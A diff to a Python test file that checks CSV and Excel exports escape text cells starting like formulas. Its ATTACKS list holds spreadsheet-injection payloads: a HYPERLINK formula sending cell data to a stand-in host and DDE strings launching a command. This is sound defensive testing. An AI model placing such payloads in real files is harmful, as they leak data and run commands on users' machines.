@@ -78,6 +78,36 @@ def test_exports_read_back_equal(tmp_path):
     assert flag_counts(table) == {"ready_to_move_up": 1, "stalled": 1, "missed": 0}
 
 
+ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_exports_are_formula_safe():
+    """A pseudonym (or any text) that starts like a formula stays a text: in the CSV with
+    a leading apostrophe, in Excel as a quote-prefixed text cell; numbers stay numbers."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    table = pd.DataFrame({"pseudonym": [*ATTACKS, "KRS-001"],
+                          "track": [1, 2, 3, 1, 2, 3, 1], "theta": [-1.5] * 7})
+    rows = list(csv.reader(io.StringIO(export_csv(table).decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["pseudonym", "track", "theta"]
+    for attack, row in zip(ATTACKS, rows[1:], strict=False):
+        assert row[0] == "'" + attack
+    assert rows[-1] == ["KRS-001", "1", "-1.5"]  # a negative number is a number
+    sheet = load_workbook(io.BytesIO(export_excel(table))).active
+    cells = list(sheet.iter_rows(min_row=2))
+    # (openpyxl's own XML writer keeps a CR as LF; with lxml installed the CR stays)
+    for attack, row in zip(ATTACKS, cells, strict=False):
+        assert row[0].data_type == "s"
+        assert row[0].value in (attack, attack.replace("\r", "\n"))
+        assert row[0].quotePrefix or row[0].value.startswith("\n")
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    assert cells[-1][0].value == "KRS-001" and not cells[-1][0].quotePrefix
+    assert cells[0][2].value == -1.5 and cells[0][2].data_type == "n"
+
+
 def test_figures_have_the_data():
     fig = trajectory_figure(TESTS, 1, CUTS, track_median(TESTS, PEOPLE), track=2)
     line = next(t for t in fig.data if t.name == "θ")
